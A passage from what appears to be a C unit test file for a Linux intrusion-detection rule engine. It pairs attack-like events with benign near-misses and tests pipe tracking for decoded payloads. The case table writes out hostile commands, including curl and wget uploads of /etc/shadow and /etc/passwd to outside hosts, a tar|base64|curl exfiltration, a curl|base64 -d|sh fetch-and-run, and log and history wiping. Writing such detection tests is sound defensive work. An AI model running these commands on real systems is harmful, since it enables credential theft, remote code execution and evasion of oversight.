	  { EXEC("/usr/bin/chattr", "chattr\t+C\t/var/lib/db") }, .why = "no copy-on-write for a database" },

	{ "udev-rule-modified", true,
	  { FOP("/usr/bin/bash", "/etc/udev/rules.d/99-usb.rules", W) }, .why = "RUN+= rule added by hand" },
	{ "udev-rule-modified", false,
	  { FOP("/usr/bin/dpkg", "/usr/lib/udev/rules.d/60-x.rules", W) }, .why = "a package's rule" },
	{ "udev-rule-modified", false,
	  { FOP("/usr/bin/cat", "/usr/lib/udev/rules.d/60-x.rules", R) }, .why = "a rule read" },

	{ "xdg-autostart-modified", true,
	  { FOP("/usr/bin/python3.11", "/home/u/.config/autostart/update.desktop", VG_FA_CREATE | W) },
	  .why = "autostart entry dropped" },
	{ "xdg-autostart-modified", false,
	  { FOP("/usr/bin/python3.11", "/home/u/.config/autostart-notes.txt", W) }, .why = "another file" },

	{ "process-hidden-by-mount", true,
	  { SYS("/usr/bin/mount", 165), .path = "/proc/4242" }, .why = "mount --bind /tmp/e /proc/4242" },
	{ "process-hidden-by-mount", false,
	  { SYS("/usr/bin/mount", 165), .path = "/proc/sys/fs/binfmt_misc" }, .why = "binfmt_misc mounted" },
	{ "process-hidden-by-mount", false,
	  { SYS("/usr/bin/mount", 165), .path = "/mnt/data" }, .why = "a disk mounted" },

	{ "shell-history-read", true,
	  { FOP("/usr/bin/grep", "/home/u/.bash_history", R) }, .why = "grep pass ~/.bash_history" },
	{ "shell-history-read", true,
	  { FOP("/usr/bin/python3.11", "/root/.mysql_history", R) }, .why = "a script reading mysql's history" },
	{ "shell-history-read", false,
	  { FOP("/usr/bin/bash", "/home/u/.bash_history", R) }, .why = "bash loading its history" },
	{ "shell-history-read", false,
	  { FOP("/usr/bin/python3.11", "/home/u/.python_history", R) }, .why = "the python REPL's own" },

	{ "core-pattern-write", true,
	  { FOP("/usr/bin/dash", "/proc/sys/kernel/core_pattern", VG_FA_WRITE | VG_FA_TRUNC) }, .why = "|/tmp/x" },
	{ "core-pattern-write", false,
	  { FOP("/usr/lib/systemd/systemd-sysctl", "/proc/sys/kernel/core_pattern", W) }, .why = "boot sysctl" },
	{ "core-pattern-write", false,
	  { FOP("/usr/sbin/sysctl", "/proc/sys/kernel/core_pattern", W), PARENT("/usr/lib/systemd/systemd", "/sbin/init") },
	  .why = "procps.service sysctl --system" },

	/* ---------------- defense evasion ---------------- */
	{ "binary-self-deleted", true,
	  { FOP("/tmp/.d/x", "/tmp/.d/x", VG_FA_UNLINK) }, .why = "payload deleting itself" },
	{ "binary-self-deleted", false,
	  { FOP("/usr/bin/x86_64-linux-gnu-gcc-12", "/tmp/ccAbc123.s", VG_FA_UNLINK) }, .why = "gcc's temp files" },

	{ "log-files-tampered", true,
	  { FOP("/usr/bin/bash", "/var/log/wtmp", VG_FA_WRITE | VG_FA_TRUNC) }, .why = "> /var/log/wtmp" },
	{ "log-files-tampered", true,
	  { FOP("/usr/bin/rm", "/var/log/auth.log", VG_FA_UNLINK) }, .why = "rm auth.log" },
	{ "log-files-tampered", false,
	  { FOP("/usr/sbin/logrotate", "/var/log/syslog", VG_FA_RENAME_FROM) }, .why = "logrotate" },
	{ "log-files-tampered", false,
	  { FOP("/usr/lib/systemd/systemd-journald", "/var/log/journal/abc/system@1-2-3.journal", VG_FA_UNLINK) },
	  .why = "journald vacuum" },
	{ "log-files-tampered", false,
	  { FOP("/usr/sbin/sshd", "/var/log/wtmp", W) }, .why = "sshd recording a login" },

	{ "shell-history-deleted", true,
	  { FOP("/usr/bin/ln", "/root/.bash_history", VG_FA_SYMLINK) }, .why = "ln -sf /dev/null ~/.bash_history" },
	{ "shell-history-deleted", false,
	  { FOP("/usr/bin/bash", "/root/.bash_history", W) }, .why = "bash saving history" },

	{ "shell-history-truncated", true,
	  { FOP("/usr/bin/truncate", "/home/u/.bash_history", VG_FA_TRUNC) }, .why = "truncate -s0" },
	{ "shell-history-truncated", false,
	  { FOP("/usr/bin/bash", "/home/u/.bash_history", VG_FA_WRITE | VG_FA_TRUNC) }, .why = "bash rewriting it" },

	{ "kernel-module-loaded", true,
	  { SYSA("/usr/bin/kmod", "insmod\t/tmp/rk.ko", 313),
	    PARENT("/usr/bin/bash", "bash") },
	  .why = "insmod a rootkit" },
	{ "kernel-module-loaded", false,
	  { SYSA("/usr/bin/kmod", "/sbin/modprobe\t-q\t--\tbinfmt-464c", 313),
	    .parent = { .exe = "", .flags = VG_PF_KTHREAD } },
	  .why = "the kernel's request_module" },

	{ "bpf-program-loaded", true,
	  { SYS("/tmp/x", 321), .args = { 5 } }, .why = "BPF_PROG_LOAD by an unknown binary" },
	{ "bpf-program-loaded", false,
	  { SYS("/usr/lib/systemd/systemd", 321), .args = { 5 } }, .why = "systemd's cgroup programs" },
	{ "bpf-program-loaded", false,
	  { SYS("/tmp/x", 321), .args = { 1 } }, .why = "a map lookup" },

	{ "security-sysctl-changed", true,
	  { FOP("/usr/bin/dash", "/proc/sys/kernel/randomize_va_space", VG_FA_WRITE | VG_FA_TRUNC) },
	  .why = "echo 0 > randomize_va_space" },
	{ "security-sysctl-changed", false,
	  { FOP("/usr/lib/systemd/systemd-sysctl", "/proc/sys/kernel/kptr_restrict", W) }, .why = "boot sysctl" },
	{ "security-sysctl-changed", false,
	  { FOP("/usr/bin/cat", "/proc/sys/kernel/randomize_va_space", R) }, .why = "reading it" },

	{ "ld-preload-writable-dir", true,
	  { FOP("/usr/bin/ls", "/tmp/hook.so", VG_FA_MMAP_EXEC), .env = "PATH=/bin\tLD_PRELOAD=/tmp/hook.so" },
	  .why = "LD_PRELOAD=/tmp/hook.so" },
	{ "ld-preload-writable-dir", false,
	  { FOP("/usr/bin/python3.11", "/tmp/venv/lib/python3.11/site-packages/_speedups.so", VG_FA_MMAP_EXEC),
	    .env = "PATH=/tmp/venv/bin" },
	  .why = "a venv's extension module" },

	{ "timestomp-system-file", true,
	  { FOP("/usr/bin/touch", "/usr/bin/sshd", VG_FA_UTIMES) }, .why = "touch -r" },
	{ "timestomp-system-file", false,
	  { FOP("/usr/bin/dpkg", "/usr/bin/sshd.dpkg-new", VG_FA_UTIMES) }, .why = "dpkg" },
	{ "timestomp-system-file", false,
	  { FOP("/usr/bin/python3.11", "/usr/lib/python3.11/__pycache__/os.cpython-311.pyc", VG_FA_UTIMES) },
	  .why = "python byte-compiling" },

	{ "ptrace-code-injection", true,
	  { SYS("/usr/bin/gdb", 101), .args = { 4 } }, SP_OTHER, "POKETEXT into another process" },
	{ "ptrace-code-injection", false,
	  { SYS("/usr/bin/gdb", 101), .args = { 4 } }, SP_CHILD, "gdb setting a breakpoint in its program" },
	{ "ptrace-code-injection", false,
	  { SYS("/usr/bin/gdb", 101), .args = { 2 } }, SP_OTHER, "PEEKDATA" },

	{ "proc-mem-write", true,
	  { FOP("/usr/bin/python3.11", "/proc/%d/mem", W) }, SP_OTHER, "writing another's memory" },
	{ "proc-mem-write", false,
	  { FOP("/usr/bin/gdb", "/proc/%d/mem", W) }, SP_CHILD, "gdb writing its inferior" },

	{ "process-vm-writev", true,
	  { SYS("/tmp/inject", 311) }, SP_OTHER, "process_vm_writev into another" },
	{ "process-vm-writev", false,
	  { SYS("/usr/sbin/criu", 311) }, SP_OTHER, "criu restore" },

	{ "system-binary-replaced", true,
	  { FOP("/usr/bin/cp", "/usr/bin/ls", VG_FA_WRITE | VG_FA_TRUNC) }, .why = "trojaned ls" },
	{ "system-binary-replaced", true,
	  { FOP("/usr/bin/mv", "/usr/lib/x86_64-linux-gnu/libpam.so.0", VG_FA_RENAME_TO) }, .why = "planted library" },
	{ "system-binary-replaced", false,
	  { FOP("/usr/bin/dpkg", "/usr/bin/ls", VG_FA_RENAME_TO) }, .why = "dpkg upgrading coreutils" },
	{ "system-binary-replaced", false,
	  { FOP("/usr/sbin/ldconfig", "/usr/lib/x86_64-linux-gnu/libfoo.so.1", VG_FA_SYMLINK) }, .why = "ldconfig" },
	{ "system-binary-replaced", false,
	  { FOP("/usr/bin/python3.11", "/usr/lib/python3.11/__pycache__/os.cpython-311.pyc", VG_FA_CREATE) },
	  .why = "python writing a .pyc" },
	{ "system-binary-replaced", false,
	  { FOP("/usr/bin/install", "/usr/local/bin/tool", VG_FA_CREATE) }, .why = "make install to /usr/local" },

	/* ---------------- credential access ---------------- */
	{ "shadow-file-read", true,
	  { FOP("/usr/bin/cat", "/etc/shadow", R) }, .why = "cat /etc/shadow" },
	{ "shadow-file-read", false,
	  { FOP("/usr/sbin/unix_chkpwd", "/etc/shadow", R) }, .why = "PAM's helper" },
	{ "shadow-file-read", false,
	  { FOP("/usr/lib/openssh/sshd-session", "/etc/shadow", R) }, .why = "sshd" },

	{ "ssh-private-key-read", true,
	  { FOP("/usr/bin/cat", "/root/.ssh/id_rsa", R) }, .why = "cat id_rsa" },
	{ "ssh-private-key-read", true,
	  { FOP("/usr/bin/python3.11", "/etc/ssh/ssh_host_ed25519_key", R) }, .why = "host key" },
	{ "ssh-private-key-read", false,
	  { FOP("/usr/bin/ssh", "/root/.ssh/id_ed25519", R) }, .why = "ssh using its key" },
	{ "ssh-private-key-read", false,
	  { FOP("/usr/bin/cat", "/root/.ssh/id_rsa.pub", R) }, .why = "the public key" },
	{ "ssh-private-key-read", false,
	  { FOP("/usr/sbin/sshd", "/etc/ssh/ssh_host_ed25519_key", R) }, .why = "sshd" },

	{ "cloud-credentials-read", true,
	  { FOPA("/usr/bin/node", "node\tindex.js", "/root/.aws/credentials", R),
	    PARENT("/usr/bin/dash", "sh\t-c\tnode index.js"), GRAND("/usr/bin/node", "node\t/usr/bin/npm\tinstall") },
	  .why = "an npm postinstall script" },
	{ "cloud-credentials-read", true,
	  { FOP("/usr/bin/python3.11", "/home/ci/.docker/config.json", R) }, .why = "a script reading registry auth" },
	{ "cloud-credentials-read", true,
	  { FOP("/usr/bin/cat", "/home/ci/.kube/config", R) }, .why = "cat kubeconfig" },
	{ "cloud-credentials-read", false,
	  { FOP("/usr/local/bin/aws", "/root/.aws/credentials", R) }, .why = "aws cli" },
	{ "cloud-credentials-read", false,
	  { FOPA("/usr/bin/node", "node\t/usr/bin/npm\tci", "/root/.npmrc", R) },
	  .why = "npm reading .npmrc" },
	{ "cloud-credentials-read", false,
	  { FOPA("/usr/bin/python3.11", "/tmp/venv/bin/python3\t-m\tpip\tinstall\tx", "/root/.netrc", R) },
	  .why = "pip (requests) reading .netrc" },
	{ "cloud-credentials-read", false,
	  { FOP("/usr/bin/git", "/home/u/project/.git/config", R) }, .why = "git reading .git/config" },

	{ "proc-environ-read", true,
	  { FOP("/usr/bin/python3.11", "/proc/%d/environ", R) }, SP_OTHER, "another process's environment" },
	{ "proc-environ-read", false,
	  { FOP("/usr/bin/python3.11", "/proc/%d/environ", R) }, SP_CHILD, "a child's environment" },

	{ "proc-mem-read", true,
	  { FOP("/usr/bin/python3.11", "/proc/%d/mem", R) }, SP_OTHER, "dumping the runner's memory" },
	{ "proc-mem-read", false,
	  { FOP("/usr/bin/gdb", "/proc/%d/mem", R) }, SP_CHILD, "gdb reading its inferior" },

	{ "process-vm-readv", true,
	  { SYS("/tmp/x", 310) }, SP_OTHER, "process_vm_readv from another" },
	{ "process-vm-readv", false,
	  { SYS("/usr/local/bin/py-spy", 310) }, SP_OTHER, "py-spy sampling" },
	{ "process-vm-readv", false,
	  { SYS("/tmp/x", 310) }, SP_CHILD, "reading a child" },

	{ "ptrace-attach", true,
	  { SYS("/usr/bin/gdb", 101), .args = { 16 } }, SP_OTHER, "gdb -p" },
	{ "ptrace-attach", false,
	  { SYS("/usr/bin/strace", 101), .args = { 0x4206 } }, SP_CHILD, "strace of its own command" },
	{ "ptrace-attach", false,
	  { SYS("/usr/bin/ls", 101), .args = { 0 } }, SP_OTHER, "PTRACE_TRACEME" },

	{ "pam-config-modified", true,
	  { FOP("/usr/bin/bash", "/etc/pam.d/sshd", W) }, .why = "PAM backdoor line" },
	{ "pam-config-modified", true,
	  { FOP("/usr/bin/cp", "/usr/lib/x86_64-linux-gnu/security/pam_evil.so", VG_FA_CREATE) }, .why = "PAM module" },
	{ "pam-config-modified", false,
	  { FOPA("/usr/bin/perl", "/usr/bin/perl\t-w\t/usr/sbin/pam-auth-update\t--package", "/etc/pam.d/common-auth", VG_FA_RENAME_TO) },
	  .why = "pam-auth-update" },

	{ "password-search", true,
	  { EXEC("/usr/bin/grep", "grep\t-rn\tpassword\t/etc\t/home") }, .why = "grep -r password /etc" },
	{ "password-search", false,
	  { EXEC("/usr/bin/grep", "grep\t-rn\tpassword\tsrc/") }, .why = "a developer searching their code" },
	{ "password-search", false,
	  { EXEC("/usr/bin/grep", "grep\tpassword\t/etc/login.defs") }, .why = "not recursive" },

	{ "credential-file-search", true,
	  { EXEC("/usr/bin/find", "find\t/\t-name\tid_rsa") }, .why = "find / -name id_rsa" },
	{ "credential-file-search", false,
	  { EXEC("/usr/bin/find", "find\t.\t-name\t*.pem\t-delete") }, .why = "cleaning test certificates" },

	/* ---------------- discovery ---------------- */
	{ "network-scanner", true,
	  { EXEC("/usr/bin/nmap", "nmap\t-sS\t10.0.0.0/24") }, .why = "nmap" },
	{ "network-scanner", false,
	  { EXEC("/usr/bin/nmcli", "nmcli\tdevice") }, .why = "NetworkManager's CLI" },

	{ "network-sniffer", true,
	  { EXEC("/usr/bin/tcpdump", "tcpdump\t-i\tany\t-w\t/tmp/c.pcap") }, .why = "tcpdump" },
	{ "network-sniffer", false,
	  { EXEC("/usr/bin/ss", "ss\t-tanp") }, .why = "listing sockets" },

	{ "packet-socket-opened", true,
	  { SYS("/tmp/x", 41), .args = { 17, 3, 0x300 } }, .why = "AF_PACKET from custom code" },
	{ "packet-socket-opened", false,
	  { SYS("/usr/sbin/dhclient", 41), .args = { 17, 2, 0x300 } }, .why = "DHCP client" },
	{ "packet-socket-opened", false,
	  { SYS("/usr/bin/curl", 41), .args = { 2, 1, 6 } }, .why = "a TCP socket" },

	{ "system-fingerprinting", true,
	  { FOP("/tmp/x", "/etc/os-release", R) }, .why = "a dropper's recon (counted toward the burst)" },
	{ "system-fingerprinting", true,
	  { FOP("/tmp/x", "/proc/4242/net/route", R) }, .why = "routes" },
	{ "system-fingerprinting", false,
	  { FOP("/usr/lib/systemd/systemd", "/etc/os-release", R) }, .why = "systemd" },
	{ "system-fingerprinting", false,
	  { FOP("/tmp/x", "/etc/passwd", R) }, .why = "not a fingerprinting file" },

	{ "security-tooling-recon", true,
	  { FOP("/usr/bin/ls", "/sys/fs/bpf", R) }, .why = "ls /sys/fs/bpf" },
	{ "security-tooling-recon", true,
	  { FOP("/usr/bin/cat", "/etc/vigil/rules.d/local.yaml", R) }, .why = "reading vigil's rules" },
	{ "security-tooling-recon", false,
	  { FOP("/usr/sbin/bpftool", "/sys/fs/bpf/vigil/vg_procs", R) }, .why = "bpftool" },
	{ "security-tooling-recon", false,
	  { FOP("/usr/bin/ls", "/sys/fs/cgroup", R) }, .why = "listing cgroups" },

	/* ---------------- command and control ---------------- */
	{ "tunnel-tool-run", true,
	  { EXEC("/tmp/.x/chisel", "chisel\tclient\t203.0.113.9:443\tR:socks") }, .why = "chisel pivot" },
	{ "tunnel-tool-run", true,
	  { EXEC("/usr/local/bin/ngrok", "ngrok\ttcp\t22") }, .why = "ngrok exposing ssh" },
	{ "tunnel-tool-run", false,
	  { EXEC("/usr/bin/ssh", "ssh\t-L\t5432:db:5432\tbastion") }, .why = "an SSH port forward" },
	{ "remote-access-tool-run", true,
	  { EXEC("/usr/bin/tmate", "tmate\t-F") }, .why = "tmate session on a runner" },
	{ "remote-access-tool-run", false,
	  { EXEC("/usr/bin/tmux", "tmux\tnew\t-d") }, .why = "tmux, local only" },

	/* ---------------- exfiltration, collection ---------------- */
	{ "network-file-copy", true,
	  { EXEC("/usr/bin/scp", "scp\t/etc/passwd\tuser@10.0.0.5:/tmp/") }, .why = "scp upload" },
	{ "network-file-copy", true,
	  { EXEC("/usr/bin/rsync", "rsync\t-az\t/home/\tbackup@host:/data/") }, .why = "rsync upload" },
	{ "network-file-copy", false,
	  { EXEC("/usr/bin/scp", "scp\t-t\t/tmp") }, .why = "the scp server side" },
	{ "network-file-copy", false,
	  { EXEC("/usr/bin/scp", "scp\thost:/var/log/x.log\t.") }, .why = "scp download" },
	{ "network-file-copy", false,
	  { EXEC("/usr/bin/rsync", "rsync\t-a\tbuild/\t/srv/www/") }, .why = "a local copy" },

	{ "http-file-upload", true,
	  { EXEC("/usr/bin/curl", "curl\t-F\tfile=@/etc/passwd\thttps://x.example/up") }, .why = "curl -F" },
	{ "http-file-upload", true,
	  { EXEC("/usr/bin/curl", "curl\t--data-binary\t@-\thttp://1.2.3.4/") }, .why = "curl --data-binary @-" },
	{ "http-file-upload", true,
	  { EXEC("/usr/bin/wget", "wget\t--post-file=/etc/shadow\thttp://1.2.3.4/") }, .why = "wget --post-file" },
	{ "http-file-upload", false,
	  { EXEC("/usr/bin/curl", "curl\t-fsS\thttp://localhost:8000/index.html") }, .why = "curl to a local server" },
	{ "http-file-upload", false,
	  { EXEC("/usr/bin/curl", "curl\t-F\tf=@out.tgz\thttp://127.0.0.1:8080/upload") }, .why = "upload to localhost" },
	{ "http-file-upload", false,
	  { EXEC("/usr/bin/curl", "curl\t-o\tx.tgz\thttps://example.org/x.tgz") }, .why = "a download" },

	{ "encoded-data-to-network", true,
	  { EXEC("/usr/bin/curl", "curl\t-d\t@-\thttp://x.example/"),
	    PARENT("/usr/bin/dash", "sh\t-c\ttar cz /etc | base64 -w0 | curl -d @- http://x.example/") },
	  .why = "tar | base64 | curl" },
	{ "encoded-data-to-network", false,
	  { EXEC("/usr/bin/curl", "curl\t-s\thttp://x.example/i"),
	    PARENT("/usr/bin/dash", "sh\t-c\tcurl -s http://x.example/i | base64 -d | sh") },
	  .why = "download and decode (not exfiltration)" },

	{ "sensitive-files-archived", true,
	  { EXEC("/usr/bin/tar", "tar\tczf\t/tmp/k.tgz\t/root/.ssh\t/etc/shadow") }, .why = "tar of keys" },
	{ "sensitive-files-archived", false,
	  { EXEC("/usr/bin/tar", "tar\tczf\tbuild.tgz\tbuild/") }, .why = "packing the build output" },

	/* ---------------- impact ---------------- */
	{ "crypto-miner-exe", true,
	  { EXEC("/tmp/xmrig", "./xmrig") }, .why = "xmrig" },
	{ "crypto-miner-exe", false,
	  { EXEC("/usr/bin/xmllint", "xmllint\t--noout\tx.xml") }, .why = "xmllint" },

	{ "crypto-miner-args", true,
	  { EXEC("/tmp/.cache/systemd-helper", "systemd-helper\t-o\tstratum+tcp://pool.supportxmr.com:3333\t-u\t4abc") },
	  .why = "renamed miner" },
	{ "crypto-miner-args", true,
	  { EXEC("/opt/x/kworker", "kworker\t--donate-level=1\t-a\trx/0") }, .why = "miner options" },
	{ "crypto-miner-args", false,
	  { EXEC("/usr/bin/python3.11", "python3\t-m\tpip\tinstall\t--upgrade\tpip") }, .why = "pip" },
	{ "crypto-miner-args", false,
	  { EXEC("/usr/bin/gcc", "gcc\t-O2\t-o\tstratum\tstratum.c") }, .why = "compiling a file named stratum" },
};

#define NROWS (sizeof(rows) / sizeof(rows[0]))

static struct vg_rules *defaults;
static struct vg_rule_tables tables;
static pid_t child, inet_child, unix_child, ns_child;
static pid_t pipe_sh[2], pipe_cat[2]; /* [0] writer (pauses), [1] reader */
static pid_t spawn(int fd);
static pid_t from_sh[2], from_cat[2]; /* [0] writer (prog), [1] reader (pauses) */
static int writer_stdin = -1;         /* the writers' stdin: never written, so they wait */

/* A writer exec'ing prog with stdout on a pipe, and a reader with that pipe as stdin. */
static void pipe_from_pair(pid_t out[2], const char *prog)
{
	int p[2], q[2];

	if (pipe(p))
		return;
	if (writer_stdin < 0) {
		if (pipe(q))
			return;
		writer_stdin = q[1];
		dup2(q[0], 100);
		close(q[0]);
	}
	out[0] = fork();
	if (out[0] == 0) {
		dup2(100, 0);
		dup2(p[1], 1);
		close(p[0]);
		close(p[1]);
		execl(prog, prog, (char *)NULL);
		_exit(127);
	}
	out[1] = fork();
	if (out[1] == 0) {
		dup2(p[0], 0);
		close(p[0]);
		close(p[1]);
		pause();
		_exit(0);
	}
	close(p[0]);
	close(p[1]);
}

/* A writer whose stdout is a pipe, and a reader exec'ing prog with that pipe as stdin. */
static void pipe_pair(pid_t out[2], const char *prog)
{
	int p[2];

	if (pipe(p))
		return;
	out[1] = fork();
	if (out[1] == 0) {
		dup2(p[0], 0);
		close(p[0]);
		close(p[1]);
		execl(prog, prog, (char *)NULL);
		_exit(127);
	}
	out[0] = spawn(p[1]); /* stdin and stdout: the write end */
	close(p[0]);
	close(p[1]);
}

static pid_t spawn(int fd)
{
	pid_t p = fork();

	if (p == 0) {
		if (fd >= 0) {
			dup2(fd, 0);
			dup2(fd, 1);
		}
		pause();
		_exit(0);
	}
	return p;
}

static int setup(void **state)
{
	struct vg_rule_errors errs = {};
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	socklen_t al = sizeof(a);
	int l = socket(AF_INET, SOCK_STREAM, 0), c = socket(AF_INET, SOCK_STREAM, 0), sp[2];

	defaults = vg_rules_load(NULL, &errs);
	if (!defaults) {
		vg_rule_errors_print(&errs, stderr);
		vg_rule_errors_free(&errs);
		return -1;
	}
	if (vg_rules_compile(defaults, 0, &tables))
		return -1;
	if (bind(l, (struct sockaddr *)&a, sizeof(a)) || listen(l, 1) ||
	    getsockname(l, (struct sockaddr *)&a, &al) || connect(c, (struct sockaddr *)&a, sizeof(a)) ||
	    socketpair(AF_UNIX, SOCK_STREAM, 0, sp))
		return -1;
	child = spawn(-1);
	pipe_pair(pipe_sh, "/bin/sh");
	pipe_pair(pipe_cat, "/bin/cat");
	pipe_from_pair(from_sh, "/bin/sh");
	pipe_from_pair(from_cat, "/bin/cat");
	close(100);
	ns_child = fork();
	if (ns_child == 0) {
		if (unshare(CLONE_NEWUTS))
			_exit(1);
		pause();
		_exit(0);
	}
	inet_child = spawn(c);
	unix_child = spawn(sp[0]);
	close(c);
	close(sp[0]);
	close(sp[1]);
	close(l);
	usleep(50000);
	return 0;
}

static int teardown(void **state)
{
	pid_t p[] = { child, inet_child, unix_child, ns_child, pipe_sh[0], pipe_sh[1], pipe_cat[0],
		      pipe_cat[1], from_sh[0], from_sh[1], from_cat[0], from_cat[1] };

	for (int i = 0; i < 12; i++) {
		kill(p[i], SIGKILL);
		waitpid(p[i], NULL, 0);
	}
	vg_rule_tables_free(&tables);
	vg_rules_free(defaults);
	return 0;
}

/* The operation of a row with its special parts filled in. */
static struct t_op row_op(const struct row *r, char *path, size_t len)
{
	struct t_op op = r->op;
	pid_t pid = r->sp == SP_OTHER ? 1 : r->sp == SP_CHILD ? child : 0;

	if (r->sp == SP_INET)
		op.self_pid = inet_child;
	if (r->sp == SP_UNIX)
		op.self_pid = unix_child;
	if (r->sp == SP_NSPARENT)
		op.ppid = ns_child;
	if (r->sp == SP_HOSTPARENT)
		op.ppid = child;
	if (r->sp == SP_PIPE_SH)
		op.self_pid = pipe_sh[0];
	if (r->sp == SP_PIPE_CAT)
		op.self_pid = pipe_cat[0];
	if (r->sp == SP_FROM_SH)
		op.self_pid = from_sh[1];
	if (r->sp == SP_FROM_CAT)
		op.self_pid = from_cat[1];
	if (pid) {
		const char *at = op.path ? strstr(op.path, "%d") : NULL;

		if (at) {
			snprintf(path, len, "%.*s%d%s", (int)(at - op.path), op.path, pid, at + 2);
			op.path = path;
		}
		if (op.nr == 101)
			op.args[1] = pid;
		if (op.nr == 310 || op.nr == 311)
			op.args[0] = pid;
	}
	return op;
}

static void test_defaults_load(void **state)
{
	size_t n = vg_rules_count(defaults), counts[VG_RK_MAX] = { 0 };

	assert_true(n >= 60);
	for (size_t i = 0; i < n; i++) {
		const struct vg_rule *r = vg_rules_at(defaults, i);

		assert_string_equal(r->source, "builtin");
		/* off by default only with a reason in its description */
		if (!r->enabled && !strstr(r->description, "Disabled by default"))
			fail_msg("%s is disabled without saying why", r->id);
		assert_non_null(r->tactic_name);
		assert_non_null(r->technique_name);
		assert_true(strlen(r->description) > 20);
		assert_true(r->enabled ? r->bit != VG_RULE_NOBIT : r->bit == VG_RULE_NOBIT);
		counts[r->kind]++;
	}
	/* room left in every kind for users' rules */
	for (int k = 0; k < VG_RK_MAX; k++)
		assert_true(defaults->nbits[k] <= VG_RULES_MAX - 32);
	/* every tactic of the issue is covered */
	{
		static const char *const want[] = { "TA0002", "TA0003", "TA0004", "TA0005", "TA0006",
						    "TA0007", "TA0009", "TA0010", "TA0040" };

		for (size_t w = 0; w < sizeof(want) / sizeof(want[0]); w++) {
			bool seen = false;

			for (size_t i = 0; i < n; i++)
				seen |= !strcmp(vg_rules_at(defaults, i)->tactic, want[w]);
			if (!seen)
				fail_msg("no default rule for tactic %s", want[w]);
		}
	}
}

/* Every default rule appears in the table with a trigger and a near-miss. */
static void test_table_covers_every_rule(void **state)
{
	for (size_t i = 0; i < vg_rules_count(defaults); i++) {
		const char *id = vg_rules_at(defaults, i)->id;
		bool hit = false, miss = false;

		for (size_t k = 0; k < NROWS; k++)
			if (!strcmp(rows[k].rule, id)) {
				hit |= rows[k].want;
				miss |= !rows[k].want;
			}
		if (!hit || !miss)
			fail_msg("default rule %s has no %s case", id, !hit ? "trigger" : "near-miss");
	}
	for (size_t k = 0; k < NROWS; k++)
		if (!vg_rules_find(defaults, rows[k].rule))
			fail_msg("table names an unknown rule %s", rows[k].rule);
}

/*
 * stdout_pipe_to once the pipe is gone (the process exited): the pipeline is
 * recognised in the records. A fake process table: the decoder (self,
 * exited at t=200) and one other process.
 */
struct fake_proc {
	struct vg_proc rec;
	const char *exe, *argv;
};

static bool fake_procs(void *ctx, const struct vg_match *m,
		       bool (*keep)(void *arg, const struct vg_proc *rec),
		       bool (*pred)(void *arg, const struct vg_match_proc *p), void *arg)
{
	struct fake_proc *f = ctx;
	struct t_match t;
	struct t_op op = { EXEC(f->exe, f->argv) };
	struct vg_match_proc p;
	bool hit;

	if (!keep(arg, &f->rec))
		return false;
	t_match_build(&t, &op);
	p = t.m.self;
	p.rec = &f->rec;
	hit = pred(arg, &p);
	t_match_free(&t);
	return hit;
}

/* Without pipes recorded (a process found at start-up): by timing, among siblings. */
static void test_pipe_records_by_timing(void **state)
{
	const struct vg_rule *r = vg_rules_find(defaults, "decoded-payload-to-shell");
	static const struct {
		uint64_t start, exec, exit;
		const char *exe, *argv;
		bool want;
		const char *why;
	} cases[] = {
		{ 150, 160, 400, "/usr/bin/dash", "sh", true, "sh forked right after, alive together" },
		{ 150, 160, 0, "/usr/bin/bash", "bash\t-s", true, "bash -s still running" },
		{ 150, 0, 400, "/usr/bin/bash", "bash", false, "a subshell: never exec'd" },
		{ 150, 160, 400, "/usr/bin/dash", "sh\t-c\tcat > f", false, "sh running its own command" },
		{ 150, 160, 400, "/usr/bin/tar", "tar\txz", false, "decoded into tar" },
		{ 250, 260, 400, "/usr/bin/dash", "sh", false, "started after the decoder exited" },
		{ 50, 60, 400, "/usr/bin/dash", "sh", false, "started before the decoder: not its reader" },
	};
	struct t_op op = { EXEC("/usr/bin/base64", "base64\t-d"), .self_pid = 999999999 };

	assert_non_null(r);
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct fake_proc f = { .exe = cases[i].exe, .argv = cases[i].argv };
		struct t_match t;
		bool got;

		f.rec.key.tgid = 999999998;
		f.rec.key.start_ns = cases[i].start;
		f.rec.exec_ns = cases[i].exec;
		f.rec.exit_ns = cases[i].exit;
		t_match_build(&t, &op);
		f.rec.parent = t.rec[0].parent;
		t.rec[0].key.start_ns = 100;
		t.rec[0].exit_ns = 200;
		t.m.procs = fake_procs;
		t.m.procs_ctx = &f;
		got = vg_rule_matches(r, &t.m);
		t_match_free(&t);
		if (got != cases[i].want)
			fail_msg("records by timing: %s: %s", cases[i].why, got ? "matched" : "did not match");
	}
}

/*
 * With the pipes the kernel recorded at exec: the reader is whoever has our
 * stdout pipe as its stdin, whenever it started, whoever its parent; no
 * matching reader on the pipe leaves the answer open (judged again later).
 */
static void test_pipe_records_by_pipe(void **state)
{
	const struct vg_rule *r = vg_rules_find(defaults, "decoded-payload-to-shell");
	static const struct {
		uint64_t start, exec, stdin_pipe;
		bool seen, other_parent;
		const char *exe, *argv;
		bool want, undecided;
		const char *why;
	} cases[] = {
		{ 250, 260, 77, true, false, "/usr/bin/dash", "sh", true, false,
		  "sh forked after the decoder had exited, reading its pipe" },
		{ 150, 160, 77, true, true, "/usr/bin/bash", "bash", true, false,
		  "a grandchild reading the pipe ({ base64 -d; } | bash)" },
		{ 150, 160, 78, true, false, "/usr/bin/dash", "sh", false, true,
		  "sh on another pipe: the reader has not exec'd yet" },
		{ 150, 160, 77, true, false, "/usr/bin/tar", "tar\txz", false, true,
		  "decoded into tar (a shell may still read the pipe after it)" },
		{ 150, 0, 77, true, false, "/usr/bin/bash", "bash", false, true,
		  "the reader forked, not exec'd yet (or a subshell)" },
		{ 150, 160, 77, false, false, "/usr/bin/dash", "sh", false, true,
		  "a reader with no pipes recorded is not trusted" },
	};
	struct t_op op = { EXEC("/usr/bin/base64", "base64\t-d"), .self_pid = 999999999 };

	assert_non_null(r);
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct fake_proc f = { .exe = cases[i].exe, .argv = cases[i].argv };
		struct t_match t;
		bool got, undecided = false;

		f.rec.key.tgid = 999999998;
		f.rec.key.start_ns = cases[i].start;
		f.rec.exec_ns = cases[i].exec;
		f.rec.stdin_pipe = cases[i].stdin_pipe;
		f.rec.flags = cases[i].seen ? VG_PF_STDIO_SEEN : 0;
		t_match_build(&t, &op);
		f.rec.parent = t.rec[0].parent;
		if (cases[i].other_parent)
